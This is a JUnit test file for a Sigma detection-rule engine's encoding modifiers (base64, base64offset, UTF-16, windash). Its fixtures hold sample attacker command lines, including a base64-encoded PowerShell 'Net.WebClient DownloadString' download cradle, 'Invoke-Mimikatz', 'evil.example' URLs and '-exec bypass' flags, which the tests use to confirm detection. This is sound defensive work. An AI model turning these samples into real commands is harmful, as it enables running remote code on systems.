package io.yagura.correlation.rules;

import static io.yagura.correlation.rules.Events.ev;
import static io.yagura.correlation.rules.Events.rule;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Base64;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Sigma's encoding modifiers (base64, base64offset, utf16*, wide) and windash. */
class SigmaEncodingModifierTest {

    private static String b64(String s) {
        return Base64.getEncoder().encodeToString(s.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] b) {
        return Base64.getEncoder().encodeToString(b);
    }

    private static RuleProblem problem(String selection) {
        RuleLoad load = Events.load("title: t\nid: t\ndetection:\n  sel:\n" + selection + "  condition: sel\n");
        assertEquals(0, load.ruleSet().size(), "rule must not load: " + selection);
        assertEquals(1, load.problems().size(), load.problems().toString());
        return load.problems().get(0);
    }

    @Test
    void base64EncodesTheWholeValue() {
        DetectionRule r = rule("  sel:\n    message|base64: Invoke-Mimikatz\n", "sel");
        assertTrue(r.matches(ev("message", "SW52b2tlLU1pbWlrYXR6")), "exact base64 of the value");
        assertFalse(r.matches(ev("message", "sw52b2tllu1pbwlryxr6")), "base64 is case-significant");
        assertFalse(r.matches(ev("message", "Invoke-Mimikatz")), "the plain text is not the encoded form");
        DetectionRule c = rule("  sel:\n    message|base64|contains: Invoke-Mimikatz\n", "sel");
        assertTrue(c.matches(ev("message", "powershell -enc SW52b2tlLU1pbWlrYXR6 x")), "contains after base64");
    }

    @Test
    void base64OffsetFindsTheValueAtEveryOffset() {
        assertEquals(List.of("aHR0cDovL", "h0dHA6Ly", "odHRwOi8v"),
                EncodedValues.base64Offsets("http://".getBytes(StandardCharsets.UTF_8)), "the three forms");
        DetectionRule r = rule("  sel:\n    message|base64offset|contains: 'http://'\n", "sel");
        for (String prefix : List.of("", "x", "xx", "xyz", "long prefix!")) {
            String encoded = b64(prefix + "http://evil.example/a");
            assertTrue(r.matches(ev("message", "cmd /c " + encoded)), "offset " + prefix.length() + ": " + encoded);
        }
        assertFalse(r.matches(ev("message", b64("https://evil.example/a"))), "another text");
        assertFalse(r.matches(ev("message", "not base64 at all: %%%$$$!!! ====")), "garbage never matches");
    }

    @Test
    void oneByteValueDropsTheEmptyOffsetForm() {
        List<String> forms = EncodedValues.base64Offsets(new byte[] {'a'});
        assertEquals(List.of("Y", "h"), forms, "offset 1 has no stable character and must not match everything");
        DetectionRule r = rule("  sel:\n    message|base64offset|contains: a\n", "sel");
        assertFalse(r.matches(ev("message", "ZZZZ")), "an empty form would match any text");
    }

    @Test
    void utf16ModifiersEncodeBeforeBase64() {
        byte[] le = "cmd".getBytes(StandardCharsets.UTF_16LE);
        byte[] be = "cmd".getBytes(StandardCharsets.UTF_16BE);
        byte[] bom = {(byte) 0xFF, (byte) 0xFE, 'c', 0, 'm', 0, 'd', 0};
        assertTrue(rule("  sel:\n    message|utf16le|base64: cmd\n", "sel").matches(ev("message", b64(le))), "utf16le");
        assertTrue(rule("  sel:\n    message|wide|base64: cmd\n", "sel").matches(ev("message", b64(le))), "wide = utf16le");
        assertTrue(rule("  sel:\n    message|utf16be|base64: cmd\n", "sel").matches(ev("message", b64(be))), "utf16be");
        assertTrue(rule("  sel:\n    message|utf16|base64: cmd\n", "sel").matches(ev("message", b64(bom))), "utf16 + BOM");
        assertFalse(rule("  sel:\n    message|utf16be|base64: cmd\n", "sel").matches(ev("message", b64(le))),
                "byte order matters");

        // PowerShell -EncodedCommand: UTF-16LE text, base64, value anywhere in it
        DetectionRule ps = rule("  sel:\n    message|wide|base64offset|contains: 'New-Object Net.WebClient'\n", "sel");
        for (String prefix : List.of("", "I", "IE", "IEX (")) {
            String enc = b64((prefix + "New-Object Net.WebClient).DownloadString('http://x')")
                    .getBytes(StandardCharsets.UTF_16LE));
            assertTrue(ps.matches(ev("message", "powershell.exe -enc " + enc)), "prefix '" + prefix + "'");
        }
        assertFalse(ps.matches(ev("message", "powershell.exe -enc " + b64("New-Object Net.WebClient"))),
                "UTF-8 bytes are not the wide form");
    }

    @Test
    void allAppliesAcrossValuesEachWithItsOffsetForms() {
        DetectionRule r = rule("  sel:\n    message|base64offset|contains|all:\n      - 'http://'\n      - 'cmd.exe'\n",
                "sel");
        assertTrue(r.matches(ev("message", b64("x http://a cmd.exe"))), "both, at different offsets");
        assertFalse(r.matches(ev("message", b64("x http://a only"))), "one of two");
    }

    @Test
    void hostileEncodedValuesAreProblemsWithTheirLine() {
        RuleProblem wildcard = problem("    message|base64offset|contains: 'evil*'\n");
        assertEquals(5, wildcard.line(), "line of the value");
        assertTrue(wildcard.message().contains("cannot encode wildcards"), wildcard.message());
        assertTrue(problem("    message|base64: 'a?c'\n").message().contains("cannot encode wildcards"));
        assertTrue(problem("    message|base64: ''\n").message().contains("non-empty"));
        assertTrue(problem("    message|base64: null\n").message().contains("null cannot be used"));
        assertTrue(problem("    message|contains|base64: x\n").message().contains("'contains' must come after 'base64'"));
        assertTrue(problem("    message|base64|utf16le: x\n").message().contains("must come before 'base64'"));
        assertTrue(problem("    message|wide|contains: x\n").message().contains("must be followed by 'base64'"));
        assertTrue(problem("    message|wide|utf16be|base64: x\n").message().contains("cannot be combined"));
        assertTrue(problem("    message|base64|base64offset: x\n").message().contains("cannot be combined"));
        assertTrue(problem("    message|base64|re: x\n").message().contains("'re' cannot be combined"));
        assertTrue(problem("    destination.port|base64|gt: 3\n").message().contains("'gt' cannot be combined"));
        assertTrue(problem("    message|windash|base64: -x\n").message().contains("'windash' cannot be combined"));
        assertEquals(5, problem("    message|base64|windash: -x\n").line(), "line of the key");
    }

    @Test
    void escapedWildcardsAreEncodedLiterally() {
        DetectionRule r = rule("  sel:\n    message|base64: 'a\\*b'\n", "sel");
        assertTrue(r.matches(ev("message", b64("a*b"))), "\\* is a literal star");
    }

    @Test
    void hugeValuesLoadAndMatchQuickly() {
        String big = "A1b2C3d4".repeat(32_768); // 256 KiB
        String yaml = "title: t\nid: t\ndetection:\n  sel:\n    message|wide|base64offset|contains: '" + big + "'\n"
                + "  condition: sel\n";
        assertTimeoutPreemptively(Duration.ofSeconds(20), () -> {
            RuleLoad load = Events.load(yaml);
            assertEquals(List.of(), load.problems());
            DetectionRule r = load.ruleSet().detectionRules().get(0);
            String event = b64(("xy" + big + "z").getBytes(StandardCharsets.UTF_16LE));
            assertTrue(r.matches(ev("message", event)), "a 256 KiB value inside a 1.3 MB base64 field");
            assertFalse(r.matches(ev("message", "Q".repeat(2_000_000))), "2 MB of non-matching base64-ish text");
        });
    }

    @Test
    void windashMatchesEveryDashFormAtTheStartOfAWord() {
        DetectionRule r = rule("  sel:\n    process.command_line|windash|contains: ' -exec bypass -nop'\n", "sel");
        for (String d : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
            assertTrue(r.matches(ev("process.command_line", "powershell " + d + "exec bypass " + d + "nop")), d);
        }
        assertTrue(r.matches(ev("process.command_line", "powershell /EXEC Bypass -nop")), "mixed forms, any case");
        assertFalse(r.matches(ev("process.command_line", "powershell +exec bypass -nop")), "+ is not a dash");
        DetectionRule inner = rule("  sel:\n    process.command_line|windash: 'net-tool -x'\n", "sel");
        assertTrue(inner.matches(ev("process.command_line", "net-tool /x")), "word-initial dash expanded");
        assertFalse(inner.matches(ev("process.command_line", "net/tool /x")), "a dash inside a word stays a dash");
        DetectionRule wild = rule("  sel:\n    process.command_line|windash: '*-s*'\n", "sel");
        assertTrue(wild.matches(ev("process.command_line", "sc.exe /s x")), "dash right after a wildcard");
    }

    @Test
    void windashWithTooManyDashesIsAProblemNotAStackOverflow() {
        String many = " -a".repeat(5_000);
        RuleProblem p = problem("    message|windash|contains: '" + many + "'\n");
        assertTrue(p.message().contains("more than " + Matchers.StringValue.MAX_TOKENS), p.message());
        String fine = " -a".repeat(200);
        DetectionRule r = rule("  sel:\n    message|windash|contains: '" + fine + "'\n", "sel");
        assertTrue(r.matches(ev("message", "x" + " /a".repeat(200))));
    }
}
